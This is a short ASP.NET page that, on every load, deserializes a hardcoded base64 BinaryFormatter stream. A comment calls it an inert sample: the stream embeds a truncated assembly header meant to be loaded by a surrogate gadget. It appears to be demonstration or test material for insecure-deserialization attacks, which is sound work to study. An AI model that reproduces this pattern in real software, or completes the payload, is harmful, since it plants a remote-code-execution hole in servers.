<%@ Page Language="C#" %>
<%-- inert sample: a BinaryFormatter stream whose byte-array member is an assembly (a truncated header:
     nothing loads), deserialized by the page: a surrogate gadget loads what it carries. --%>
<script runat="server">
    const string Blob = "AAEAAAD/////AQAAAAAAAAAMAgAAAA5TYW1wbGUuU3Vycm9nYXRlBQEAAAAESXRlbQEAAAAEZGF0YQcCAgAAAAkDAAAADwMAAAD8AAAAAk1akAADAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAUEUAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAs=";
    protected void Page_Load(object sender, EventArgs e)
    {
        var fmt = new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter();
        using (var ms = new System.IO.MemoryStream(Convert.FromBase64String(Blob)))
            fmt.Deserialize(ms);
    }
</script>
